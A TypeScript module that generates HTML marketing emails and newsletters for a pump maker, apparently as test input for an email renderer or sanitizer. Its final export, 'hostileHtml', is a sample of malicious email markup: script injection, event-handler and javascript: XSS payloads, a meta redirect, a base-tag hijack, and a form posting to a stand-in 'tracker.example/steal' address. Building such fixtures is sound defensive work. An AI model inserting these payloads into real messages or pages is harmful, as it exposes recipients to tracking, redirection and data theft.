import type { Email, EmailLink } from './catalogue';

/** A version of a message, and how it is laid out. */
const versions = {
  newest: { colour: '#0b556a', blocksARow: 2, greeting: 'Good to have you with us' },
  previous: { colour: '#7a3b12', blocksARow: 1, greeting: 'News from the boiler room' },
} as const;

type Version = keyof typeof versions;

/**
 * The message as somebody wrote it in a designer: tables in tables, pictures in place, tracked links. A link carries its
 * id beside its address, since several may lead to the same.
 */
export function htmlOf(email: Email, version: Version): string {
  const { colour } = versions[version];
  const links = email.links.filter(({ gone }) => version === 'previous' || !gone);
  return `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${escaped(email.plan.subject)}</title>
<style>
body{margin:0;background:#f4f1ea;color:#2b2b2b;font:16px/1.5 Georgia,serif}
.frame{width:640px;max-width:100%;margin:0 auto;background:#ffffff}
.button{display:inline-block;background:${colour};color:#ffffff;padding:8px 16px;text-decoration:none}
.small{font-size:13px;color:#5a5a5a}
h1{font-size:28px;line-height:1.2;margin:16px 0}h2{font-size:18px;margin:8px 0}
@media (max-width:480px){.block{display:block;width:100%}}
</style>
</head>
<body>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#f4f1ea"><tr><td align="center">
<table class="frame" role="presentation" width="640" cellpadding="16" cellspacing="0">
${[head(version), ...(email.plan.wide ? newsletter(email, links, version) : letter(email, links, version)), foot]
  .map((part) => `<tr><td>${part}</td></tr>`)
  .join('\n')}
</table>
</td></tr></table>
</body>
</html>
`;
}

function head(version: Version): string {
  const { colour, greeting } = versions[version];
  return table(`<tr><td width="56">${picture(colour, 48, 48, 'Kvitfoss Pumps')}</td>
<td><strong>Kvitfoss Pumps</strong><br><span class="small">${greeting}</span></td></tr>`);
}

const foot = table(`<tr><td class="small">Kvitfoss Pumps AS, Bergen. You get this since you asked for it.<br>
<a href="{{msdyncrm_subscriptioncenter}}">Subscription center</a> &middot;
<a href="{{msdyncrm_forwardtoafriend}}">Forward to a friend</a></td></tr>`);

/** One thing said and a button to act on it, other links below. */
function letter({ plan }: Email, [first, ...others]: readonly EmailLink[], version: Version): readonly string[] {
  const { colour } = versions[version];
  return [
    picture(colour, 608, 160),
    `<h1>${escaped(plan.subject)}</h1>\n<p>Hello,</p>\n<p>${escaped(plan.lead)}</p>`,
    ...(first ? [`<p align="center">${anchor(first, 'button')}</p>`] : []),
    table(`<tr>${others.map((link) => `<td valign="top">${anchor(link)}</td>`).join('')}</tr>`),
  ];
}

/** A lead story, then block beside block: headline, button and what else there is to a topic. */
function newsletter({ plan }: Email, [lead, ...others]: readonly EmailLink[], version: Version): readonly string[] {
  const { colour, blocksARow } = versions[version];
  const blocks = inParts(others, 3).map((links, place) => block(links, place, blocksARow));
  return [
    picture(colour, 608, 200),
    `<h1>${escaped(plan.subject)}</h1>\n<p>${escaped(plan.lead)}</p>${lead ? `\n<p>${anchor(lead, 'button')}</p>` : ''}`,
    table(
      inParts(blocks, blocksARow)
        .map((row) => `<tr>${row.join('\n')}</tr>`)
        .join('\n'),
    ),
    priceTable,
  ];
}

const blockColours = ['#c2410c', '#0b556a', '#3f6212', '#6d28d9', '#9f1239', '#155e75'];
const teasers = [
  'Half the noise, a third less power, the same holes in the wall.',
  'In stock in Bergen and Trondheim, two days on the road.',
  'Now with drawings that you can put straight into your plan.',
  'Twelve questions that fitters ask us, answered on one page.',
  'Built to be taken apart again with one key.',
  'What we learnt from four hundred cellars last winter.',
];

function block([headline, button, more]: readonly EmailLink[], place: number, aRow: number): string {
  const colour = blockColours[place % blockColours.length] ?? '';
  const parts = [
    picture(colour, aRow === 1 ? 576 : 272, 110),
    ...(headline ? [`<h2>${anchor(headline)}</h2>`] : []),
    `<p>${teasers[place % teasers.length] ?? ''}</p>`,
    ...(button ? [`<p>${anchor(button, 'button')}</p>`] : []),
    ...(more ? [`<p class="small">${anchor(more)}</p>`] : []),
  ];
  return `<td class="block" width="${Math.floor(100 / aRow)}%" valign="top">${table(`<tr><td>${parts.join('\n')}</td></tr>`)}</td>`;
}

const priceTable = `<table width="100%" cellpadding="4" cellspacing="0" border="1">
<tr><th align="left">Model</th><th align="right">Output</th><th align="right">From</th></tr>
<tr><td>Foss 6</td><td align="right">6 kW</td><td align="right">38,900 kr</td></tr>
<tr><td>Foss 9</td><td align="right">9 kW</td><td align="right">46,500 kr</td></tr>
<tr><td>Foss 14 twin</td><td align="right">14 kW</td><td align="right">71,200 kr</td></tr>
</table>`;

const inParts = <T>(all: readonly T[], size: number): readonly (readonly T[])[] =>
  Array.from({ length: Math.ceil(all.length / size) }, (_, part) => all.slice(part * size, (part + 1) * size));

function table(rows: string): string {
  return `<table role="presentation" width="100%" cellpadding="8" cellspacing="0">${rows}</table>`;
}

const anchor = ({ id, text, url }: EmailLink, look = ''): string =>
  `<a${look ? ` class="${look}"` : ''} href="${escaped(url)}" data-link-id="${id}">${escaped(text)}</a>`;

function picture(colour: string, width: number, height: number, says = ''): string {
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
    `<rect width="100%" height="100%" fill="${colour}"/>` +
    `<circle cx="${width / 2}" cy="${height / 2}" r="${Math.floor(height / 3)}" fill="#ffffff" fill-opacity="0.2"/></svg>`;
  const data = Buffer.from(svg).toString('base64');
  return `<img alt="${says}" width="${width}" height="${height}" src="data:image/svg+xml;base64,${data}">`;
}

/** Text as it stands in HTML, and as the exporter keeps the names of links. */
export function escaped(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** A message that tries to do harm where it is looked at. */
export const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://tracker.example/">
<base href="https://tracker.example/"><style>@import url(https://tracker.example/a.css);</style>
<script>window.parent.postMessage('owned','*')</script></head>
<body onload="alert(1)"><form action="https://tracker.example/steal"><input name="q"></form>
<svg onload="alert(2)"></svg><iframe src="https://tracker.example/"></iframe>
<img src="https://tracker.example/pixel.gif" onerror="alert(3)"><a href="javascript:alert(4)">Read more</a></body></html>`;
